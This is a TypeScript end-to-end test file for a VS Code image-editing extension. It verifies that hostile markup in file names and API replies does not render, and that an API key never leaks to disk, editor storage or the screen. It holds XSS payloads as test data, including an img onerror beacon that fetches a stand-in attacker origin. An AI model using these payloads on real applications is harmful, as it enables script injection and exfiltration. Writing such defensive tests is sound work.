import assert from 'node:assert/strict';
import { readFile, readdir } from 'node:fs/promises';
import path from 'node:path';
import { test } from 'node:test';
import { out } from '../host/paths.ts';
import * as workbench from '../host/workbench.ts';
import type { Page } from '../host/workbench.ts';
import { inlineDataReply, newApiError } from '../support/gateway/scriptedGateway.ts';
import { CAT, KEY, LINK, RESULT, userSettings, withBoth } from './rig/hostile.ts';
import { blockedByPolicy, savedPng, until, withVSCode } from './rig.ts';

test('threat-T19 threat-T14 markup in file names and replies becomes no link, no script and no image', () =>
  withBoth(async (gateway, evil) => {
    const beacon = `<img src="${evil.origin}/b.png" onerror="fetch('${evil.origin}')">`;
    gateway.respond(newApiError(400, 'invalid_request', `${beacon} ${LINK} ![x](${evil.origin})`));
    const name = '<img src=x onerror=alert(1)>.png';
    await withVSCode(
      { name: 'hostile-markup', files: { [name]: CAT }, settings: userSettings(gateway) },
      async ({ page }) => {
        const blocked = blockedByPolicy(page);
        await workbench.explorerRow(page, name).click();
        await workbench.editorTab(page, name).waitFor();
        await workbench.runCommand(page, 'Easel: Open Panel');
        const panel = workbench.webview(page);
        await panel.getByRole('list').getByText(name).waitFor();
        await panel.locator('#prompt textarea').fill(`${beacon} ${LINK}`);
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await panel
          .getByText(/rejected the request/)
          .first()
          .waitFor();
        assert.equal(await panel.locator('img[src*="127.0.0.1"], a[href]').count(), 0);

        await workbench.chooseInContextMenu(page, name, 'Edit Image…');
        await workbench.answer(page, beacon);
        const notice = workbench.notification(page, /rejected the request/);
        await notice.waitFor();
        const message = notice.locator('.notification-list-item-message');
        assert.equal(await message.count(), 1);
        assert.equal(await message.locator('a').count(), 0);
        assert.deepEqual(blocked, []);
        assert.equal(gateway.posts, 2);

        // Proves that the checks above can fail: the policy blocks such an image, and the test sees it.
        const insert = `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(beacon)})`;
        await panel.locator('body').evaluate(insert);
        await until(() => blocked.length > 0, 'the policy blocked nothing');
        assert.equal(evil.connections, 0);
      },
    );
  }));

test('threat-T23 the key appears in no file, no storage of the editor and nowhere on the screen', () =>
  withBoth(async (gateway) => {
    const echoed = spellings(KEY).join(' ');
    gateway.respond((_, index) =>
      index === 0
        ? newApiError(400, 'invalid_request', `You sent ?key=${echoed}`)
        : inlineDataReply(RESULT),
    );
    const name = 'hostile-canary';
    await withVSCode(
      { name, files: { 'cat.png': CAT }, settings: userSettings(gateway) },
      async ({ page, folder }) => {
        await workbench.explorerRow(page, 'cat.png').click();
        await workbench.runCommand(page, 'Easel: Open Panel');
        const panel = workbench.webview(page);
        await panel.locator('#prompt textarea').fill('make it blue');
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await workbench.passwordInput(page).waitFor();
        await workbench.answer(page, KEY);
        await panel
          .getByText(/rejected the request/)
          .first()
          .waitFor();
        const texts = [
          await page.locator('body').innerText(),
          await panel.locator('body').innerHTML(),
        ];
        await panel.getByRole('button', { name: 'Run', exact: true }).click();
        await savedPng(folder, 'cat-edited.png');
        await panel.getByRole('img', { name: 'cat-edited.png' }).waitFor();
        assert.equal(gateway.posts, 2, 'the key was in use');

        texts.push(await panel.locator('body').innerHTML(), await storedByTheEditor(page));
        const files = await textOf(path.join(out, 'host', `e2e-${name}`, 'data'));
        assert.match(files.join(), /make it blue/, 'the search finds the prompt');
        texts.push(...(await textOf(folder)), ...files);
        for (const text of texts) {
          for (const spelling of spellings(KEY)) {
            const at = text.indexOf(spelling);
            assert.equal(at, -1, text.slice(Math.max(0, at - 200), at + 100));
          }
        }
      },
    );
  }));

function spellings(key: string): readonly string[] {
  return [
    key,
    Buffer.from(key).toString('base64').replace(/=+$/, ''),
    Array.from(key).reverse().join(''),
  ];
}

/** Reads the databases of the workbench, which contain extensions' state, and its local storage, which contains encrypted secrets. */
async function storedByTheEditor(page: Page): Promise<string> {
  const text = await page.evaluate<string>(`(async () => {
    const found = [JSON.stringify({ ...localStorage })];
    const result = (request) => new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
    for (const { name } of await indexedDB.databases()) {
      const database = await result(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const values = await result(database.transaction(store).objectStore(store).getAll());
        found.push(JSON.stringify(values));
      }
      database.close();
    }
    return found.join('\\n');
  })()`);
  assert.match(text, /easel\.panel|easel-vscode/, 'the search finds the state of Easel');
  return text;
}

/** Reads all files of a folder and its subfolders as Latin-1, which accepts any bytes. */
async function textOf(folder: string): Promise<readonly string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile());
  return await Promise.all(
    files.map((file) => readFile(path.join(file.parentPath, file.name), 'latin1')),
  );
}
